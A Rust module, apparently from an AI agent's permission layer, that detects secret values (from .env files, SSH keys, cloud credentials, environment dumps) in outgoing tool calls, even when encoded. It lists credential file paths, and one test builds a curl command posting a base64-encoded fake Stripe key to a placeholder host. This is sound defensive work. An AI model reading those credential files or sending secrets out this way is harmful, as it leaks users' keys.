//! Secret values never leave: what a secret source returned (a `.env` file, cloud
//! credentials, a key file, the output of a tool marked `output: secret`) is fingerprinted
//! when it is recorded, and a sink call whose arguments carry one of those values (as it was,
//! or base64-, hex- or URL-encoded) is denied, whatever the destination.
//!
//! Only high-entropy tokens are fingerprints ([`candidates`]: at least 16 characters of
//! letters, digits and `_-+/.~`, with both letters and digits and 3.5 bits of entropy per
//! character), so the names and ordinary words of a secret file (`STRIPE_KEY`, `region`)
//! never are. Fingerprints are keyed digests, never the values.

use std::borrow::Cow;

use base64::Engine as _;

/// The shortest token that can be a fingerprint.
const MIN_SECRET_LEN: usize = 16;
/// The longest token that is looked at (a key block's lines are shorter).
const MAX_SECRET_LEN: usize = 4096;
/// The entropy (bits per character) a token needs to be a fingerprint.
const MIN_ENTROPY: f64 = 3.5;
/// The most bytes of one output that are fingerprinted, and of one call that are searched.
pub(crate) const MAX_SCANNED_BYTES: usize = 1 << 20;

/// Globs of the files whose contents are secret, matched against the path a read reaches
/// (`${home}` is the user's home).
pub const SECRET_FILE_GLOBS: &[&str] = &[
    "**/.env",
    "**/.env.*",
    "**/*.env",
    "**/*.pem",
    "**/*.key",
    "**/*.p12",
    "**/id_rsa",
    "**/id_dsa",
    "**/id_ecdsa",
    "**/id_ed25519",
    "**/.aws/credentials",
    "**/.aws/config",
    "**/.netrc",
    "**/.npmrc",
    "**/.pypirc",
    "**/.git-credentials",
    "**/.docker/config.json",
    "**/.config/gh/hosts.yml",
    "**/.kube/config",
];

/// [`SECRET_FILE_GLOBS`], compiled once (`*` stays within a path component).
fn secret_files() -> &'static globset::GlobSet {
    static SET: std::sync::OnceLock<globset::GlobSet> = std::sync::OnceLock::new();
    SET.get_or_init(|| {
        let mut b = globset::GlobSetBuilder::new();
        for g in SECRET_FILE_GLOBS {
            if let Ok(glob) = globset::GlobBuilder::new(g).literal_separator(true).build() {
                b.add(glob);
            }
        }
        b.build().unwrap_or_else(|_| globset::GlobSet::empty())
    })
}

/// The first secret source `action` reads, if any: a secret file (one of
/// [`SECRET_FILE_GLOBS`], or a process's `environ`), or the environment itself (`env` or
/// `printenv` with no arguments). Its output is then fingerprinted
/// ([`crate::contracts::Contracts::record_output_from`]).
pub fn secret_read(action: &crate::Action) -> Option<&str> {
    action.parts.iter().find_map(|p| match p.operation {
        crate::Operation::FsRead => p
            .resources
            .iter()
            .find(|r| {
                secret_files().is_match(r.as_str())
                    || (r.starts_with("/proc/") && r.ends_with("/environ"))
            })
            .map(String::as_str),
        crate::Operation::ShellExec => match p.argv.as_deref() {
            Some([_]) if matches!(p.executable.as_deref(), Some("env" | "printenv")) => {
                Some("the environment (`env`)")
            }
            _ => None,
        },
        _ => None,
    })
}

fn token_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '+' | '/' | '.' | '~')
}

/// Bits of entropy per character of `s` (its ASCII bytes): `log2(n) - Σ c·log2(c) / n`, with
/// `c·log2(c)` from a table, so a megabyte of tokens costs no logarithm per character.
fn entropy(s: &str) -> f64 {
    static C_LOG2_C: std::sync::OnceLock<Vec<f64>> = std::sync::OnceLock::new();
    let table = C_LOG2_C.get_or_init(|| {
        (0..=MAX_SECRET_LEN)
            .map(|c| {
                if c == 0 {
                    0.0
                } else {
                    c as f64 * (c as f64).log2()
                }
            })
            .collect()
    });
    let mut counts = [0u32; 128];
    let mut n = 0usize;
    for b in s.bytes() {
        if let Some(c) = counts.get_mut(usize::from(b & 0x7f)) {
            *c += 1;
            n += 1;
        }
    }
    if n == 0 {
        return 0.0;
    }
    let sum: f64 = counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let c = c as usize;
            table
                .get(c)
                .copied()
                .unwrap_or_else(|| c as f64 * (c as f64).log2())
        })
        .sum();
    (n as f64).log2() - sum / n as f64
}

/// Whether one token (no separator inside) is a candidate: see [`candidates`].
fn is_candidate(t: &str) -> bool {
    (MIN_SECRET_LEN..=MAX_SECRET_LEN).contains(&t.len())
        && !t.starts_with(['/', '.'])
        && t.bytes().any(|b| b.is_ascii_alphabetic())
        && t.bytes().any(|b| b.is_ascii_digit())
        && entropy(t) >= MIN_ENTROPY
}

/// The tokens of `text` that can be secrets: runs of letters, digits and `_-+/.~` (so
/// `KEY=value`, `key: value` and quotes split), 16 to 4096 characters long, with letters
/// and digits, of high entropy, not a path (no leading `/` or `.`).
pub fn candidates(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| !token_char(c))
        .filter(|t| is_candidate(t))
}

/// The token lengths a session holds fingerprints of: a token of another length is not
/// hashed, and an encoding too short to carry one is not decoded.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Lengths<'a> {
    /// Any length (a fingerprint whose length is not known).
    Any,
    /// These lengths (as keys; the values are counts).
    Of(&'a std::collections::BTreeMap<usize, usize>),
}

impl Lengths<'_> {
    fn wants(self, len: usize) -> bool {
        match self {
            Lengths::Any => true,
            Lengths::Of(set) => set.contains_key(&len),
        }
    }

    /// The shortest length wanted.
    fn shortest(self) -> usize {
        match self {
            Lengths::Any => MIN_SECRET_LEN,
            Lengths::Of(set) => set.keys().next().copied().unwrap_or(usize::MAX),
        }
    }
}

/// The texts a token may stand for when it is an encoding of a secret: its base64 (standard
/// or URL-safe, padding optional) and hex decodings that are UTF-8 and at least `shortest`
/// bytes long.
fn decodings(token: &str, shortest: usize) -> Vec<String> {
    let mut out = Vec::new();
    let trimmed = token.trim_end_matches('=');
    if trimmed.len() * 3 / 4 >= shortest {
        // Each alphabet has two characters the other lacks.
        let standard = memchr::memchr2(b'-', b'_', trimmed.as_bytes()).is_none();
        let url_safe = memchr::memchr2(b'+', b'/', trimmed.as_bytes()).is_none();
        for (engine, possible) in [
            (base64::engine::general_purpose::STANDARD_NO_PAD, standard),
            (base64::engine::general_purpose::URL_SAFE_NO_PAD, url_safe),
        ] {
            if possible
                && text_head(&engine, trimmed)
                && let Ok(bytes) = engine.decode(trimmed)
                && let Ok(text) = String::from_utf8(bytes)
            {
                out.push(text);
            }
        }
    }
    if token.len() / 2 >= shortest
        && token.len().is_multiple_of(2)
        && token.bytes().all(|b| b.is_ascii_hexdigit())
        && let Ok(bytes) = hex::decode(token)
        && let Ok(text) = String::from_utf8(bytes)
    {
        out.push(text);
    }
    out
}

/// Whether the first 16 characters of `b64` decode under `engine` to bytes that can start a
/// UTF-8 text: binary data (an image, an archive) is turned away without decoding all of it.
/// When they do not, the whole does not either (same alphabet, same bytes).
fn text_head(engine: &base64::engine::GeneralPurpose, b64: &str) -> bool {
    let Some(head) = b64.get(..16) else {
        return true;
    };
    let mut buf = [0u8; 12];
    match engine.decode_slice(head, &mut buf) {
        Ok(n) => match std::str::from_utf8(buf.get(..n).unwrap_or_default()) {
            Ok(_) => true,
            // Cut inside a character: the rest may complete it.
            Err(e) => e.error_len().is_none(),
        },
        Err(_) => false,
    }
}

#[cfg(test)]
fn carried(text: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    find_carried(text, Lengths::Any, |t| {
        if !out.iter().any(|o| o == t) {
            out.push(t.to_owned());
        }
        false
    });
    out
}

/// The bytes that may be part of a run that may be a secret or its encoding: a token's
/// characters (`token_char`) and `=` (base64 padding, and `KEY=value`, which the candidates
/// split).
const RUN_BYTES: [bool; 256] = {
    let mut table = [false; 256];
    let mut rest: &mut [bool] = &mut table;
    let mut c: u8 = 0;
    while let Some((run, tail)) = rest.split_first_mut() {
        *run = c.is_ascii_alphanumeric()
            || matches!(c, b'_' | b'-' | b'+' | b'/' | b'.' | b'~' | b'=');
        c = c.wrapping_add(1);
        rest = tail;
    }
    table
};

fn run_byte(b: u8) -> bool {
    RUN_BYTES.get(usize::from(b)).copied().unwrap_or(false)
}

/// Calls `found` with each token [`carried`] would return of a length `lengths` wants (a
/// token may come more than once) until it returns `true`; returns whether it did. One pass
/// over the bytes of the text (and of its URL-decoded form when it has a `%`): the runs of
/// token characters, each tried as an encoding when it is long enough, and split at `=`
/// into candidates.
pub(crate) fn find_carried(
    text: &str,
    lengths: Lengths<'_>,
    mut found: impl FnMut(&str) -> bool,
) -> bool {
    if scan_runs(text, lengths, &mut found) {
        return true;
    }
    if memchr::memchr(b'%', text.as_bytes()).is_some()
        && let Cow::Owned(decoded) = percent_encoding::percent_decode_str(text).decode_utf8_lossy()
    {
        return scan_runs(&decoded, lengths, &mut found);
    }
    false
}

/// The runs of `text`, each tried as an encoding and split into candidates; then each base64
/// blob of the text ([`crate::blob`]: an attachment's lines) decoded as one stream, so that
/// a secret split across the blob's line breaks is found too.
fn scan_runs(text: &str, lengths: Lengths<'_>, found: &mut impl FnMut(&str) -> bool) -> bool {
    use crate::blob::{MIN_LINE, MIN_SINGLE};
    let shortest = lengths.shortest().max(MIN_SECRET_LEN);
    let bytes = text.as_bytes();
    // The blobs, as the runs are read: (start, end, lines) of consecutive long runs with one
    // line break between them. Runs shorter than `shortest` are not read: when that is
    // longer than a blob's line, the blobs are found by a pass of their own.
    let mut blobs: Vec<(usize, usize, usize)> = Vec::new();
    // Only runs of `shortest` bytes or more count, and each holds a multiple of `shortest`:
    // only the bytes there are read, and the run around each that is a run byte.
    let mut probe = shortest - 1;
    while probe < bytes.len() {
        if !bytes.get(probe).is_some_and(|&b| run_byte(b)) {
            probe += shortest;
            continue;
        }
        let start = bytes
            .get(..probe)
            .and_then(|head| head.iter().rposition(|&b| !run_byte(b)))
            .map_or(0, |p| p + 1);
        let end = bytes
            .get(probe..)
            .and_then(|rest| rest.iter().position(|&b| !run_byte(b)))
            .map_or(bytes.len(), |p| probe + p);
        // The next probe past this run (`end` is not a run byte).
        probe = (end + 1) / shortest * shortest + shortest - 1;
        // A run is ASCII, so its ends are character boundaries.
        let Some(run) = text.get(start..end) else {
            continue;
        };
        if run.len() < shortest {
            continue;
        }
        // A blob's line is a whole line of base64 characters (no `.` or `~`).
        let whole_line = (start == 0 || bytes.get(start - 1) == Some(&b'\n'))
            && matches!(bytes.get(end), None | Some(b'\n' | b'\r'))
            && memchr::memchr2(b'.', b'~', run.as_bytes()).is_none();
        if run.len() >= MIN_LINE && whole_line {
            let after_break = |e: usize| {
                bytes.get(e..start) == Some(b"\n") || bytes.get(e..start) == Some(b"\r\n")
            };
            match blobs.last_mut() {
                Some((_, e, lines)) if after_break(*e) => {
                    *e = end;
                    *lines += 1;
                }
                _ => blobs.push((start, end, 1)),
            }
        }
        // Encoded tokens may be shorter than the secret's own rules allow (hex of 8 bytes), or
        // low in entropy (hex), so every long enough run is tried as an encoding.
        for inner in decodings(run, shortest) {
            for t in candidates(&inner) {
                if lengths.wants(t.len()) && found(t) {
                    return true;
                }
            }
        }
        for t in run.split('=') {
            if lengths.wants(t.len()) && is_candidate(t) && found(t) {
                return true;
            }
        }
    }
    let blobs: Vec<std::ops::Range<usize>> = if shortest > MIN_LINE {
        crate::blob::base64_blobs(text)
    } else {
        blobs
            .into_iter()
            .filter(|&(s, e, lines)| lines >= 2 || e - s >= MIN_SINGLE)
            .map(|(s, e, _)| s..e)
            .collect()
    };
    for blob in blobs {
        let Some(blob) = text.get(blob) else {
            continue;
        };
        let mut joined = String::with_capacity(blob.len());
        for line in blob.split('\n') {
            joined.push_str(line.trim_end_matches('\r'));
        }
        for inner in decodings(&joined, shortest) {
            for t in candidates(&inner) {
                if lengths.wants(t.len()) && found(t) {
                    return true;
                }
            }
        }
    }
    false
}

#[cfg(test)]
#[allow(
    clippy::unwrap_used,
    reason = "tests: a failed expectation should stop the test with its message"
)]
mod tests {
    use super::*;

    const KEY: &str = "sk_live_51HxQ9aLkd83Jd02mZpQ7uYt";

    /// The reading `find_carried` replaced (three passes over the characters): the same
    /// tokens, as a set.
    fn carried_reference(text: &str) -> std::collections::BTreeSet<String> {
        let decoded = percent_encoding::percent_decode_str(text).decode_utf8_lossy();
        let mut out = std::collections::BTreeSet::new();
        for source in [text, decoded.as_ref()] {
            for run in source.split(|c: char| !(token_char(c) || c == '=')) {
                if run.len() < MIN_SECRET_LEN {
                    continue;
                }
                for inner in reference_decodings(run) {
                    out.extend(candidates(&inner).map(str::to_owned));
                }
            }
            out.extend(candidates(source).map(str::to_owned));
            // An attachment's lines, decoded as one stream.
            for blob in crate::blob::base64_blobs(source) {
                let joined: String = source[blob].split(['\r', '\n']).collect();
                for inner in reference_decodings(&joined) {
                    out.extend(candidates(&inner).map(str::to_owned));
                }
            }
        }
        out
    }

    /// Every UTF-8 decoding of a token, decoded in full.
    fn reference_decodings(token: &str) -> Vec<String> {
        let trimmed = token.trim_end_matches('=');
        let mut out: Vec<String> = [
            base64::engine::general_purpose::STANDARD_NO_PAD,
            base64::engine::general_purpose::URL_SAFE_NO_PAD,
        ]
        .iter()
        .filter_map(|e| String::from_utf8(e.decode(trimmed).ok()?).ok())
        .collect();
        if token.len().is_multiple_of(2) && token.bytes().all(|b| b.is_ascii_hexdigit()) {
            out.extend(
                hex::decode(token)
                    .ok()
                    .and_then(|b| String::from_utf8(b).ok()),
            );
        }
        out
    }

    proptest::proptest! {
        #[test]
        fn one_pass_finds_what_three_did(
            text in "([a-zA-Z0-9_+/=.%~ é\n-]{0,12}|sk_live_51HxQ9aLkd83Jd02mZpQ7uYt|c2tfbGl2ZV81MUh4UTlhTGtkODNKZDAybVpwUTd1WXQ=|%2F|%3D){0,12}"
        ) {
            let got: std::collections::BTreeSet<String> = carried(&text).into_iter().collect();
            let want = carried_reference(&text);
            proptest::prop_assert_eq!(&got, &want);
            // With the lengths of a session's fingerprints: the tokens of those lengths.
            for len in [16, 17, 31, 32, 44] {
                let lengths = std::collections::BTreeMap::from([(len, 1)]);
                let mut got = std::collections::BTreeSet::new();
                find_carried(&text, Lengths::Of(&lengths), |t| {
                    got.insert(t.to_owned());
                    false
                });
                let want: std::collections::BTreeSet<String> =
                    want.iter().filter(|t| t.len() == len).cloned().collect();
                proptest::prop_assert_eq!(got, want);
            }
        }
    }

    #[test]
    fn secret_files_are_recognised_by_their_paths() {
        use crate::{Action, Operation, Part};
        let read = |path: &str| Action {
            server: None,
            tool: "read_file".to_owned(),
            parts: vec![Part {
                resources: vec![path.to_owned()],
                ..Part::new(Operation::FsRead)
            }],
        };
        for path in [
            "/w/.env",
            "/w/app/.env.local",
            "/home/u/.aws/credentials",
            "/home/u/.ssh/id_ed25519",
            "/w/certs/server.pem",
        ] {
            let action = read(path);
            assert_eq!(secret_read(&action), Some(path), "{path}");
        }
        for path in ["/w/README.md", "/w/src/env.rs", "/w/.envrc.md"] {
            assert_eq!(secret_read(&read(path)), None, "{path}");
        }
        assert!(secret_read(&read("/proc/self/environ")).is_some());
        let shell = |argv: &[&str]| Action {
            server: None,
            tool: "Bash".to_owned(),
            parts: vec![Part {
                argv: Some(argv.iter().map(|a| (*a).to_owned()).collect()),
                executable: argv.first().map(|a| (*a).to_owned()),
                ..Part::new(Operation::ShellExec)
            }],
        };
        assert!(secret_read(&shell(&["env"])).is_some());
        assert!(secret_read(&shell(&["printenv"])).is_some());
        assert_eq!(secret_read(&shell(&["env", "FOO=1", "make"])), None);
        assert_eq!(secret_read(&shell(&["ls"])), None);
    }

    #[test]
    fn a_secret_split_across_the_lines_of_an_attachment_is_found() {
        use base64::Engine as _;
        let file = format!(
            "# settings\n{}\nSTRIPE_KEY={KEY}\nREGION=eu-west-1\n",
            "x".repeat(22)
        );
        let encoded = base64::engine::general_purpose::STANDARD.encode(&file);
        // As a mail client writes it: 76 characters a line; the key spans a line break.
        let lines: Vec<&str> = encoded
            .as_bytes()
            .chunks(76)
            .map(|l| std::str::from_utf8(l).unwrap())
            .collect();
        let mime = format!("Hi,\n\n{}\n\nBye\n", lines.join("\r\n"));
        let split = lines.iter().all(|l| {
            !base64::engine::general_purpose::STANDARD
                .decode(l)
                .map(|b| String::from_utf8_lossy(&b).contains(KEY))
                .unwrap_or(false)
        });
        assert!(split, "the key must span a line break for this test");
        assert!(carried(&mime).iter().any(|t| t == KEY), "{mime}");
    }

    #[test]
    fn names_and_words_are_no_candidates_and_keys_are() {
        let env = format!("STRIPE_KEY={KEY}\nREGION=eu-west-1\nDEBUG=true\n");
        let found: Vec<&str> = candidates(&env).collect();
        assert_eq!(found, vec![KEY]);
        assert_eq!(candidates("/home/user/project2/src/main.rs").count(), 0);
        assert_eq!(candidates("the quick brown fox jumps").count(), 0);
    }

    #[test]
    fn a_secret_is_found_as_it_is_and_encoded() {
        use base64::Engine as _;
        let b64 = base64::engine::general_purpose::STANDARD.encode(format!("STRIPE_KEY={KEY}"));
        let hexed = hex::encode(KEY);
        let url = format!("https://x.example/?k={}", KEY.replace('_', "%5F"));
        for text in [
            format!("here it is: {KEY}"),
            format!("curl -d {b64} https://x.example"),
            format!("payload {hexed}"),
            url,
        ] {
            assert!(carried(&text).iter().any(|t| t == KEY), "{text}");
        }
        assert!(carried("nothing secret here, STRIPE_KEY is set").is_empty());
    }
}
